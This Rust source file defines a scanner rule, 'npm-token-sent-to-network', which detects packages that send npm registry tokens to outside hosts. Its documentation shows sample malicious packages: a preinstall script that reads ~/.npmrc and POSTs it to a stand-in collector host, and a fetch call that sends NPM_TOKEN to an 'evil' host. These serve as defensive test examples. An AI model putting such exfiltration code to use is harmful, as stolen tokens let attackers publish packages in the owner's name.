//! # The npm token leaves the machine
//!
//! The contents of `.npmrc`, or a variable that holds the registry's token, reach a network request.
//!
//! ## Why it matters
//!
//! With the token an attacker publishes as its owner. Every worm since 2025 spread this way.
//!
//! ## Known benign uses
//!
//! Registry clients read the token to send it to the registry it belongs to. They are told apart by the host: a public
//! registry, or one that the user's own settings name, is not a finding, nor is a computed address in code that somebody
//! has to call.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"preinstall": "node setup.js"}}
//! == setup.js
//! const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
//! const text = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
//! const request = https.request({ hostname: "collector.invalid", method: "POST" });
//! request.write(text); //~ here
//! request.end();
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! fetch("https://registry.evil.invalid/-/whoami", { headers: { authorization: `Bearer ${process.env.NPM_TOKEN}` } }); //~ here
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const fs = require("fs");
//! exports.registry = () => /registry=(.*)/.exec(fs.readFileSync(".npmrc", "utf8"))[1];
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const fs = require("fs"), os = require("os"), path = require("path");
//! exports.whoami = async (registry) => {
//!   const token = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8").split("_authToken=")[1];
//!   return fetch(registry + "/-/whoami", { headers: { authorization: `Bearer ${token}` } });
//! };
//! ```
//!
//! ## References
//!
//! - ESLint postmortem for malicious package publishes (July 2018)

use crate::prelude::*;

/// The npm token leaves the machine.
pub struct NpmTokenSentToNetwork;

impl Rule for NpmTokenSentToNetwork {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "npm-token-sent-to-network",
            title: "The npm token leaves the machine",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1552.001",
            covers: &["collect-npmrc-tokens", "exfil-http-post"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let is_token = |source: &Source| match source {
            Source::SecretFile(class) => *class == FileClass::NpmToken,
            Source::Variable(name) => {
                matches!(name.as_str(), "NPM_TOKEN" | "NODE_AUTH_TOKEN" | "NPM_AUTH_TOKEN")
            }
            _ => false,
        };
        for flow in facts.flows(is_token, |sink| leaves(facts, sink)) {
            // Registry clients send it to the registry of the settings that they read, when they are asked to.
            if flow.sink.host().is_some() || flow.trigger.runs_unasked() {
                found.flow(flow);
            }
        }
    }
}

fn leaves(facts: &Facts<'_>, sink: &Sink) -> bool {
    match sink {
        Sink::Network(Some(host)) => !facts.is_registry(host) && host.class() != HostClass::Local,
        Sink::Network(None) | Sink::NameLookup => true,
        _ => false,
    }
}
